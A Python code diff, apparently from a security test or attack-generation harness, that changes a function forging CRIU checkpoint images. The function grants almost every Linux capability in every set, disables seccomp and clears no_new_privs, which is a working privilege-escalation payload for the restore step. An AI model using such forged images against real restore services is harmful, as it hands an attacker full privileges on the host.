@@ -555,16 +555,21 @@ def _cwd_climbs(ctx: Ctx) -> list[Entry]:
 ALL_CAPS = [f"CAP_{n}" for n in CAP_NUMBERS]
 
 
-def forged_credentials(ctx: Ctx) -> list[Entry]:
-    """core-*.img: every capability in every set, seccomp off, no_new_privs cleared."""
+FORGED_CAPS = 0x1FFFEFFFFFF  # all but CAP_SYS_RESOURCE, as in the attack (with it, CRIU fails here)
+
+
+def forged_credentials(
+    ctx: Ctx, sets: Sequence[str] = ("cap_eff", "cap_prm", "cap_bnd", "cap_inh", "cap_amb")
+) -> list[Entry]:
+    """core-*.img: every capability in every set of `sets`, seccomp off, no_new_privs cleared."""
     import pycriu  # the system's CRIU python bindings
 
     out = ctx.base
     for name in [n.removeprefix("checkpoint/") for n in ctx.names() if n.startswith("checkpoint/core-")]:
         core = pycriu.images.load(io.BytesIO(ctx.image(name)))
         thread = core["entries"][0]["thread_core"]
-        for key in ("cap_eff", "cap_prm", "cap_bnd", "cap_inh", "cap_amb"):
-            thread["creds"][key] = [0xFFFFFFFF, 0x1FF]
+        for key in sets:
+            thread["creds"][key] = [FORGED_CAPS & 0xFFFFFFFF, FORGED_CAPS >> 32]
         thread["creds"]["no_new_privs"] = 0
         thread["seccomp_mode"] = "disabled"
         data = io.BytesIO()
